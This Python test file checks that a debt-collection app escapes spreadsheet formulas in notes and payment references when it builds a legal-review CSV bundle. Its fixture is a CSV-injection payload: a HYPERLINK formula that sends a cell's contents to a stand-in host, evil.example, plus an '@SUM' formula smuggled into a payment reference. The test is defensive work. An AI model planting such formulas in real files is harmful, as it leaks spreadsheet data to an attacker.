"""A note or key that is a spreadsheet formula reaches the legal bundle's CSV files as text, not as a
live formula (docs/security.md); numbers, negative ones included, are untouched."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, date, datetime

from sqlalchemy import select

from arrears.accounts.tables import Account, Payment, Statement
from arrears.cases.tables import Interaction
from arrears.escalation import service
from arrears.kit.clock import utc_now
from arrears.kit.db import transaction
from tests.escalation.support import escalated

FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"点此查看")'


def test_formulas_in_notes_and_keys_are_escaped_in_the_bundle(engine):
    case_id = escalated(engine, "ACC-F1", "legal_review")
    with transaction(engine) as session:
        account_id = session.scalars(select(Account.id).where(Account.account_ref == "ACC-F1")).one()
        session.add(Interaction(case_id=case_id, channel="call", direction="outbound", party="debtor",
                                started_at=datetime(2026, 2, 3, 3, 0, tzinfo=UTC), outcome="promise_to_pay",
                                notes=FORMULA, created_at=utc_now()))
        session.add(Payment(account_id=account_id, payment_ref="@SUM(A1:A9)", amount=1_000,
                            value_date=date(2026, 2, 4), channel="wechat", ingest_run_id=None, created_at=utc_now()))
        session.add(Statement(account_id=account_id, statement_date=date(2026, 1, 5), due_date=date(2026, 1, 25),
                              new_balance=-500, minimum_due=0, past_due_included=0, created_at=utc_now()))
    with transaction(engine) as session:
        bundle = service.build_bundle(session, case_id=case_id, actor="cli:lawyer", role="compliance",
                                      reason="legal review")
    zf = zipfile.ZipFile(io.BytesIO(bundle.content))

    def table(name: str) -> list[dict[str, str]]:
        return list(csv.DictReader(io.StringIO(zf.read(name).decode("utf-8"), newline="")))

    (note,) = [r["notes"] for r in table("interactions.csv")]
    assert note == "'" + FORMULA
    payment = next(r for r in table("payments.csv") if r["amount"] == "1000")
    assert payment["payment_ref"] == "'@SUM(A1:A9)"
    assert [r["new_balance"] for r in table("statements.csv")] == ["-500"]  # a credit balance stays a number
